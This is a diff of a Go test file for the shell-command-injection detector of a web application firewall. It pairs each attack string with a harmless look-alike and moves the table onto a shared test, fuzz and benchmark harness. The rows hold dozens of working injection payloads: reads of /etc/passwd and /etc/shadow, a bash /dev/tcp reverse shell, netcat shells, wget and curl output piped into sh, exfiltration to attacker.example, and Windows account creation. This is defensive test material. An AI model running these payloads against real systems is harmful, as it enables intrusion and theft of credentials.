@@ -1,68 +1,71 @@
 package shell
 
-import "kongwaf/detect"
+import (
+	"testing"
 
-type row struct {
-	name         string
-	attack, twin string
-	source       detect.Source
-	field        string
-	isName       bool
-}
+	"kongwaf/detect"
+	"kongwaf/detect/attack/languagetest"
+)
 
-var rows = []row{
-	{name: "operator and a command with a fitting path", attack: "127.0.0.1; cat /etc/passwd", twin: "the dog; cat and mouse"},
-	{name: "pipe into a lonely command after an address", attack: "8.8.8.8|id", twin: "name|id|type"},
-	{name: "and-list", attack: "x && whoami", twin: "Tom && Jerry"},
-	{name: "background", attack: "a & ping -c 10 127.0.0.1 &", twin: "Tom & Jerry"},
-	{name: "or-list with a failing left side", attack: "foo || sleep 10", twin: "sleep 10 hours || rest"},
-	{name: "newline", attack: "1\nid\n", twin: "My name\nand address"},
-	{name: "carriage return and a path", attack: "x\r/bin/uname -a", twin: "x\r/home/me"},
-	{name: "backticks", attack: "`id`", twin: "use `ls -la | grep foo` to find it"},
-	{name: "substitution", attack: "$(curl http://192.0.2.7/x)", twin: "$('#id').hide()"},
-	{name: "substitution in a host name", attack: "$(whoami).attacker.example", twin: "$(document).ready"},
-	{name: "process substitution", attack: "foo <(cat /etc/passwd)", twin: "a <(b)"},
-	{name: "break-out of double quotes", attack: "\";id;\"", twin: "\"quoted\"; done"},
-	{name: "break-out of single quotes", attack: "' ; /bin/sleep 31 ;", twin: "it's late; I'll sleep"},
-	{name: "field separator instead of blanks", attack: ";cat$IFS/etc/passwd", twin: "cost;cat$ 5"},
-	{name: "field separator in braces and a positional", attack: ";getent${IFS}$9hosts${IFS}$9x.example", twin: "a ${IFS} variable"},
-	{name: "redirection instead of a blank", attack: "x;cat</etc/passwd", twin: "cat<dog"},
-	{name: "brace list", attack: ";{cat,/etc/passwd}", twin: "{name,email}"},
-	{name: "quotes inside the name", attack: ";c''at /e''tc/passwd", twin: "can''t; won''t"},
-	{name: "backslash inside the name", attack: "|c\\at /etc/passwd", twin: "a|b\\c"},
-	{name: "empty expansion inside the name", attack: ";wh$@oami", twin: "who@example.com; me"},
-	{name: "caret inside the name (cmd.exe)", attack: "& w^ho^am^i", twin: "2^3 & 3^2"},
-	{name: "wildcards for the name", attack: ";/???/??t /???/p??s??", twin: "what/???/ever"},
-	{name: "set for a letter of the name", attack: ";/bin/c[a]t /etc/passwd", twin: "/[a-z]+/[0-9]"},
-	{name: "path to the command", attack: "/usr/bin/id", twin: "/usr/share/doc"},
-	{name: "path after a pipe", attack: "x|/usr/bin/env", twin: "x|/images/env.png"},
-	{name: "bare command with a path", attack: "cat /etc/passwd", twin: "cat food"},
-	{name: "bare command with options", attack: "ls -la", twin: "ls 300 lexus"},
-	{name: "bare netcat with a shell", attack: "nc -e /bin/sh 192.0.2.1 99", twin: "nc 8000 controller"},
-	{name: "reverse shell over bash's pseudo file", attack: "bash -i >& /dev/tcp/192.0.2.1/8080 0>&1", twin: "bash away in the gym"},
-	{name: "download and run", attack: "wget http://192.0.2.1/x.sh -O- | sh", twin: "curl and divergence"},
-	{name: "PowerShell with encoded code", attack: "powershell -enc SQBFAFgA", twin: "PowerShell 7.4 released"},
-	{name: "cmd.exe", attack: "cmd /c dir", twin: "cmd key / ctrl key"},
-	{name: "cmd.exe after an ampersand", attack: "x & dir c:\\", twin: "black & white"},
-	{name: "type of a Windows file", attack: "type C:\\boot.ini", twin: "type A blood"},
-	{name: "accounts of Windows", attack: "| net user hacker Passw0rd /add", twin: "the net | user growth"},
-	{name: "registry", attack: "& reg query HKLM /s", twin: "reg & co"},
-	{name: "Shellshock", attack: "() { :;}; /bin/bash -c 'id'", twin: "(see above) { ok }"},
-	{name: "Shellshock, other body", attack: "() { _; } >_[$($())] { id; }", twin: "() => { return 1; }"},
-	{name: "interpreter with code", attack: ";python3 -c 'import os;os.system(\"id\")'", twin: "perl; python; ruby"},
-	{name: "encoded command piped into a shell", attack: ";echo aWQ= | base64 -d | bash", twin: "echo; base; bass"},
-	{name: "variables that make up the name", attack: "(a=d;i$a)", twin: "(a=b;c)"},
-	{name: "assignment before the command", attack: "X=1 ls -la", twin: "X=1 apples"},
-	{name: "runner before the command", attack: ";sudo id", twin: "sudo; make me a sandwich"},
-	{name: "loop", attack: "for i in 1 2 3; do echo $i; done", twin: "for you; do well; have fun"},
-	{name: "parameter name as command line", attack: "--exec=`id`", twin: "--exec=fast"},
-	{name: "blank as plus", attack: ";cat+/etc/passwd", twin: "cat+dog"},
-	{name: "dns lookup of a tool", attack: "||nslookup abc.attacker.example", twin: "a||b"},
-	{name: "time by arithmetic of cmd.exe", attack: "| set /a 3482*7301", twin: "| set | get"},
-	{name: "cookie with a command", attack: "1;id", twin: "theme=dark; id=5; path=/", source: detect.SourceCookie},
-	{name: "browser", attack: "x;curl 192.0.2.1|sh", twin: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", source: detect.SourceHeader, field: "User-Agent"},
-	{name: "a table of Markdown", attack: "|cat /etc/shadow", twin: "| id | name | date |\n|----|------|------|"},
-	{name: "a script is a document", attack: "$(id)", twin: "#!/bin/sh\nset -e\ncd /tmp && ls -la\nrm -rf build; make all\necho done with it\n"},
-	{name: "an entity of HTML", attack: "&id&", twin: "x &sub; y &amp; z"},
-	{name: "style sheet", attack: ";id", twin: "color: red; top: 0; left: 1px; sort: none"},
+var language = languagetest.Language{Class: detect.ClassRCE, Possible: Possible, Judge: Judge, Rows: rows}
+
+func TestLanguage(t *testing.T)   { language.Test(t) }
+func FuzzJudge(f *testing.F)      { language.Fuzz(f) }
+func BenchmarkJudge(b *testing.B) { language.Benchmark(b) }
+
+var rows = []languagetest.Row{
+	{Shows: "operator and a command with a fitting path", Attack: "127.0.0.1; cat /etc/passwd", Twin: "the dog; cat and mouse"},
+	{Shows: "pipe into a lonely command after an address", Attack: "8.8.8.8|id", Twin: "name|id|type", Suspicious: true},
+	{Shows: "and-list", Attack: "x && whoami", Twin: "Tom && Jerry"},
+	{Shows: "background", Attack: "a & ping -c 10 127.0.0.1 &", Twin: "Tom & Jerry"},
+	{Shows: "or-list with a failing left side", Attack: "foo || sleep 10", Twin: "sleep 10 hours || rest"},
+	{Shows: "newline", Attack: "1\nid\n", Twin: "My name\nand address"},
+	{Shows: "carriage return and a path", Attack: "x\r/bin/uname -a", Twin: "x\r/home/me"},
+	{Shows: "backticks", Attack: "`id`", Twin: "use `ls -la | grep foo` to find it", Suspicious: true},
+	{Shows: "substitution", Attack: "$(curl http://192.0.2.7/x)", Twin: "$('#id').hide()"},
+	{Shows: "substitution in a host name", Attack: "$(whoami).attacker.example", Twin: "$(document).ready"},
+	{Shows: "process substitution", Attack: "foo <(cat /etc/passwd)", Twin: "a <(b)"},
+	{Shows: "break-out of double quotes", Attack: "\";id;\"", Twin: "\"quoted\"; done"},
+	{Shows: "break-out of single quotes", Attack: "' ; /bin/sleep 31 ;", Twin: "it's late; I'll sleep"},
+	{Shows: "field separator instead of blanks", Attack: ";cat$IFS/etc/passwd", Twin: "cost;cat$ 5", Suspicious: true},
+	{Shows: "field separator in braces and a positional", Attack: ";getent${IFS}$9hosts${IFS}$9x.example", Twin: "a ${IFS} variable"},
+	{Shows: "redirection instead of a blank", Attack: "x;cat</etc/passwd", Twin: "cat<dog"},
+	{Shows: "brace list", Attack: ";{cat,/etc/passwd}", Twin: "{name,email}"},
+	{Shows: "quotes inside the name", Attack: ";c''at /e''tc/passwd", Twin: "can''t; won''t"},
+	{Shows: "backslash inside the name", Attack: "|c\\at /etc/passwd", Twin: "a|b\\c"},
+	{Shows: "empty expansion inside the name", Attack: ";wh$@oami", Twin: "who@example.com; me"},
+	{Shows: "caret inside the name (cmd.exe)", Attack: "& w^ho^am^i", Twin: "2^3 & 3^2"},
+	{Shows: "wildcards for the name", Attack: ";/???/??t /???/p??s??", Twin: "what/???/ever"},
+	{Shows: "set for a letter of the name", Attack: ";/bin/c[a]t /etc/passwd", Twin: "/[a-z]+/[0-9]"},
+	{Shows: "path to the command", Attack: "/usr/bin/id", Twin: "/usr/share/doc"},
+	{Shows: "path after a pipe", Attack: "x|/usr/bin/env", Twin: "x|/images/env.png"},
+	{Shows: "bare command with a path", Attack: "cat /etc/passwd", Twin: "cat food"},
+	{Shows: "bare command with options", Attack: "ls -la", Twin: "ls 300 lexus"},
+	{Shows: "bare netcat with a shell", Attack: "nc -e /bin/sh 192.0.2.1 99", Twin: "nc 8000 controller"},
+	{Shows: "reverse shell over bash's pseudo file", Attack: "bash -i >& /dev/tcp/192.0.2.1/8080 0>&1", Twin: "bash away in the gym"},
+	{Shows: "download and run", Attack: "wget http://192.0.2.1/x.sh -O- | sh", Twin: "curl and divergence"},
+	{Shows: "PowerShell with encoded code", Attack: "powershell -enc SQBFAFgA", Twin: "PowerShell 7.4 released"},
+	{Shows: "cmd.exe", Attack: "cmd /c dir", Twin: "cmd key / ctrl key"},
+	{Shows: "cmd.exe after an ampersand", Attack: "x & dir c:\\", Twin: "black & white"},
+	{Shows: "type of a Windows file", Attack: "type C:\\boot.ini", Twin: "type A blood"},
+	{Shows: "accounts of Windows", Attack: "| net user hacker Passw0rd /add", Twin: "the net | user growth"},
+	{Shows: "registry", Attack: "& reg query HKLM /s", Twin: "reg & co"},
+	{Shows: "Shellshock", Attack: "() { :;}; /bin/bash -c 'id'", Twin: "(see above) { ok }"},
+	{Shows: "Shellshock, other body", Attack: "() { _; } >_[$($())] { id; }", Twin: "() => { return 1; }"},
+	{Shows: "interpreter with code", Attack: ";python3 -c 'import os;os.system(\"id\")'", Twin: "perl; python; ruby"},
+	{Shows: "encoded command piped into a shell", Attack: ";echo aWQ= | base64 -d | bash", Twin: "echo; base; bass"},
+	{Shows: "variables that make up the name", Attack: "(a=d;i$a)", Twin: "(a=b;c)"},
+	{Shows: "assignment before the command", Attack: "X=1 ls -la", Twin: "X=1 apples"},
+	{Shows: "runner before the command", Attack: ";sudo id", Twin: "sudo; make me a sandwich"},
+	{Shows: "loop", Attack: "for i in 1 2 3; do echo $i; done", Twin: "for you; do well; have fun"},
+	{Shows: "parameter name as command line", Attack: "--exec=`id`", Twin: "--exec=fast"},
+	{Shows: "blank as plus", Attack: ";cat+/etc/passwd", Twin: "cat+dog"},
+	{Shows: "dns lookup of a tool", Attack: "||nslookup abc.attacker.example", Twin: "a||b"},
+	{Shows: "time by arithmetic of cmd.exe", Attack: "| set /a 3482*7301", Twin: "| set | get"},
+	{Shows: "cookie with a command", Attack: "1;id", Twin: "theme=dark; id=5; path=/", Source: detect.SourceCookie},
+	{Shows: "browser", Attack: "x;curl 192.0.2.1|sh", Twin: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", Source: detect.SourceHeader, Name: "User-Agent"},
+	{Shows: "a table of Markdown", Attack: "|cat /etc/shadow", Twin: "| id | name | date |\n|----|------|------|"},
+	{Shows: "a script is a document", Attack: "$(id)", Twin: "#!/bin/sh\nset -e\ncd /tmp && ls -la\nrm -rf build; make all\necho done with it\n", Suspicious: true},
+	{Shows: "an entity of HTML", Attack: "&id&", Twin: "x &sub; y &amp; z"},
+	{Shows: "style sheet", Attack: ";id", Twin: "color: red; top: 0; left: 1px; sort: none"},
 }
